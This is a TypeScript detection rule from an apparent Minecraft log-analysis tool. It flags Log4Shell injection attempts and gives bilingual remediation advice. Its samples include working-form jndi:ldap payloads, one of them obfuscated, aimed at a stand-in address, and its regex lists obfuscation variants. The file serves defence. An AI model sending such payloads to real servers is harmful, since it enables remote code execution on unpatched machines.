import { finding } from "../finding.ts";

export default finding({
  code: "log4shell-attempt",
  severity: "warning",
  readsChat: true,
  confidence: 0.97,
  // Here chat counts: it is the way such an attack comes.
  needles: [
    "\u0024{jndi:",
    "\u0024{\u0024{lower:",
    "\u0024{\u0024{upper:",
    "\u0024{\u0024{::-",
    "\u0024{\u0024{env:",
    "\u0024{\u0024{sys:",
  ],
  pattern: /\$\{(?:jndi:|\$\{(?:(?:lower|upper):[a-z]\}|::-|(?:env|sys):[^\n}]{1,60}\}))/i,
  message: {
    en: "Somebody tried to attack through the log (Log4Shell): a text with a jndi command was sent to the game.",
    "zh-CN": "有人试图通过日志发起攻击（Log4Shell）：向游戏发送了含有 jndi 指令的文本。",
  },
  advice: {
    en: [
      "Make sure that the server and every game is safe: Minecraft 1.18.1 or newer, or a build of the software and the launcher from after 10 December 2021.",
      "If the version is older and was not patched, stop it, update it, and check the computer for malware.",
      "Ban the player who sent it; do not open addresses that stand in this line.",
    ],
    "zh-CN": [
      "确认服务器和所有客户端都安全：使用 Minecraft 1.18.1 或更高版本，或 2021 年 12 月 10 日之后的服务端和启动器版本。",
      "如果版本较旧且未修补，请立即停止运行并更新，同时检查电脑是否感染恶意软件。",
      "封禁发送者；不要打开该行中出现的地址。",
    ],
  },
  samples: [
    { text: "[12:00:01] [Server thread/INFO]: <Griefer> \u0024{jndi:ldap://203.0.113.66/a}", parameters: {} },
    {
      text: "[12:00:01] [Server thread/INFO]: <Griefer> \u0024{\u0024{lower:j}ndi:ldap://203.0.113.66/a}",
      parameters: {},
    },
  ],
  counterSamples: [
    "[12:00:01] [main/INFO]: Opening jdk.naming.dns/com.sun.jndi.dns to java.naming",
    "[12:00:01] [Server thread/INFO]: <Alex> \u0024{player} jndi:",
  ],
});
